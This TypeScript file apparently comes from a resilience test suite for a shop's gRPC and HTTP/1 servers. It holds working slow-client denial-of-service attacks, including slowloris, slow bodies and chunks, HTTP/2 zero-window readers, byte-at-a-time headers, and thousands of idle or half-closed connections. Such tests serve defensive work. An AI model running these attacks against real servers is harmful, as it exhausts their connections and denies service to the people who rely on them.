import { setTimeout as wait } from "node:timers/promises";
import { callHeaders, DATA, END_HEADERS, END_STREAM, HEADERS, http2Frame, settings } from "@shop/testkit/http2-frames";
import { dial } from "./_http-gun.ts";
import type { Attack } from "./_http2-attacks.ts";
import { openRawConnection } from "./_http2-connection.ts";
import { frame } from "./_wire.ts";

const open = "/shop.inventory.v1.InventoryService/ListProducts";
const noMessage = frame(Buffer.alloc(0));
const streamId = (index: number) => 2 * index + 1;
/** Of SETTINGS. */
const INITIAL_WINDOW_SIZE = 4;

/** Slow and idle clients of a gRPC server. */
export const slowHttp2Attacks: readonly Attack[] = [
  {
    name: "readers that never read",
    run: (address, scale) =>
      hold(address, Math.ceil(5 * scale), 15_000, () => {
        const connection = openRawConnection(address, { first: settings([[INITIAL_WINDOW_SIZE, 0]]) });
        for (let index = 0; index < 1000; index += 1) {
          const id = streamId(index);
          void connection.send(
            http2Frame(HEADERS, END_HEADERS, id, callHeaders(open)),
            http2Frame(DATA, END_STREAM, id, noMessage),
          );
        }
        return connection;
      }),
  },
  {
    name: "messages that never end",
    run: (address, scale) =>
      hold(address, Math.ceil(20 * scale), 15_000, () => {
        const connection = openRawConnection(address);
        const begun = Buffer.concat([frame(Buffer.alloc(0), { length: 1_000_000 }), Buffer.alloc(16_000)]);
        for (let index = 0; index < 1000; index += 1) {
          const id = streamId(index);
          void connection.send(http2Frame(HEADERS, END_HEADERS, id, callHeaders(open)), http2Frame(DATA, 0, id, begun));
        }
        return connection;
      }),
  },
  {
    name: "headers a byte at a time",
    run: (address, scale) =>
      hold(address, Math.ceil(500 * scale), 5000, () => {
        const connection = openRawConnection(address);
        drip(connection, http2Frame(HEADERS, END_HEADERS, 1, callHeaders(open)), 500);
        return connection;
      }),
  },
  {
    name: "a byte of the message a second",
    run: (address, scale) =>
      hold(address, Math.ceil(500 * scale), 5000, () => {
        const connection = openRawConnection(address);
        void connection.send(http2Frame(HEADERS, END_HEADERS, 1, callHeaders(open)));
        drip(connection, Buffer.concat(Array.from({ length: 10 }, () => http2Frame(DATA, 0, 1, Buffer.alloc(1)))), 100);
        return connection;
      }),
  },
  {
    name: "idle connections that say nothing",
    run: (address, scale) => hold(address, 3000 * scale, 5000, () => closable(address)),
  },
  {
    name: "idle connections of HTTP/2",
    run: (address, scale) => hold(address, 3000 * scale, 5000, () => openRawConnection(address)),
  },
  {
    name: "half-closed connections",
    run: (address, scale) =>
      hold(address, 1000 * scale, 5000, () => {
        const connection = openRawConnection(address);
        void connection.send(http2Frame(HEADERS, END_HEADERS, 1, callHeaders(open)));
        connection.socket.end();
        return connection;
      }),
  },
];

const request = (path: string, more = "") =>
  `POST ${path} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n${more}`;

/** Slow and idle clients of an HTTP/1 server. */
export const slowHttp1Attacks: readonly Attack[] = [
  { name: "slowloris", run: (address, scale) => slow(address, 1000 * scale, request("/login", "x-a: "), "b") },
  {
    name: "slow bodies",
    run: (address, scale) => slow(address, 1000 * scale, request("/login", "content-length: 9999\r\n\r\n"), "a"),
  },
  {
    name: "slow chunks",
    run: (address, scale) =>
      slow(address, 1000 * scale, request("/login", "transfer-encoding: chunked\r\n\r\n"), "1\r\na\r\n"),
  },
  {
    name: "idle connections that say nothing",
    run: (address, scale) => hold(address, 3000 * scale, 5000, () => closable(address)),
  },
  {
    name: "idle connections after an answer",
    run: (address, scale) =>
      hold(address, 3000 * scale, 5000, () => closable(address, "GET /none HTTP/1.1\r\nhost: a\r\n\r\n")),
  },
  {
    name: "readers that never read",
    run: (address, scale) =>
      hold(address, 200 * scale, 5000, () => {
        const connection = closable(address, "GET /openapi.json HTTP/1.1\r\nhost: a\r\n\r\n".repeat(5), false);
        return connection;
      }),
  },
];

interface Closable {
  close(): void;
}

/** Opens so many, holds them for a while, closes them. */
async function hold(_address: string, count: number, holdMs: number, make: () => Closable): Promise<string> {
  const held: Closable[] = [];
  for (let index = 0; index < count; index += 1) {
    held.push(make());
    if (index % 20 === 0) await wait(1);
  }
  await wait(holdMs);
  for (const one of held) one.close();
  return `${held.length} connections held for ${holdMs} ms`;
}

function slow(address: string, count: number, begin: string, drop: string): Promise<string> {
  return hold(address, count, 5000, () => {
    const socket = dial(address);
    socket.resume();
    socket.write(begin);
    const timer = setInterval(() => socket.write(drop), 500);
    socket.once("close", () => clearInterval(timer));
    return { close: () => socket.destroy() };
  });
}

function drip({ socket }: ReturnType<typeof openRawConnection>, bytes: Buffer, everyMs: number): void {
  let sent = 0;
  const timer = setInterval(() => {
    if (sent < bytes.length && socket.writable) socket.write(bytes.subarray(sent, ++sent));
  }, everyMs);
  socket.once("close", () => clearInterval(timer));
}

function closable(address: string, first = "", isReading = true): Closable {
  const socket = dial(address);
  if (isReading) socket.resume();
  else socket.pause();
  if (first !== "") socket.write(first);
  return { close: () => socket.destroy() };
}
